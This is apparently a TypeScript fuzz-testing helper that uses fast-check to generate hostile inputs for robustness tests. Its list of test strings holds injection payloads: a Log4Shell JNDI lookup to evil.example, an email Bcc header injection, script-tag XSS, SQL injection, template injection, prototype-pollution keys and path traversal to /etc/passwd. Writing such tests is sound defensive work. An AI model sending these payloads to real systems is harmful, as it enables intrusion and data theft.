import fc from "fast-check";

/** Part of every generated text: wherever it appears, typed text was revealed. */
export const MARK = "ZQXJKV";

/** Values that break programs: invisible characters, partial characters, other scripts, syntax of back ends, sizes. */
const NASTY = [
  "\u0000",
  "\uD800",
  "\uFFFF",
  "\u202E",
  "\u200B",
  "\r\nBcc: x@evil.example",
  "<script>alert(1)</script>",
  "\"'`<>&;",
  "${jndi:ldap://evil.example}",
  "{{7*7}}",
  "../../etc/passwd",
  "' OR 1=1 --",
  "__proto__",
  "constructor",
  "toString",
  "https://evil.example",
  "１２３",
  "85.07.30-033.61",
  "👩🏽‍💻",
  "e\u0301".repeat(300),
  "a".repeat(300),
  "€".repeat(5000),
  "1e308",
  "-0",
  "NaN",
  "12345678901234567",
  "9999-12-31",
  "0026-01-01",
  "2026-02-30",
  "true",
  "null",
  "",
  " ",
];

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY).map((text) => MARK + text) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 50 }).map((text) => text + MARK) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 50 }) },
);

/** Any JSON, including deep values and names of object properties. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4, stringUnit: "binary" }),
  hostileText,
  fc.constantFrom<unknown>(null, [], {}, 1e308, -1, 0.5, Number("12345678901234567"), true),
  fc.constant(JSON.parse('{"__proto__":{"x":1},"constructor":1}')),
);

/** Path segment, encoded correctly or wrongly. */
export const hostilePart = fc.oneof(
  hostileText.map((text) => encodeURIComponent(text.toWellFormed()).slice(0, 3000)),
  fc.constantFrom(
    "%",
    "%00",
    "%ED%A0%80",
    "%C3",
    "..",
    "%2e%2e%2f",
    "x".repeat(2048),
    "x.y",
    "-",
    "undefined",
  ),
);

/** Mostly the usual value, occasionally another one. */
export const mostly = <Value>(usual: fc.Arbitrary<Value>, other: fc.Arbitrary<Value>): fc.Arbitrary<Value> =>
  fc.oneof({ weight: 9, arbitrary: usual }, { weight: 1, arbitrary: other });
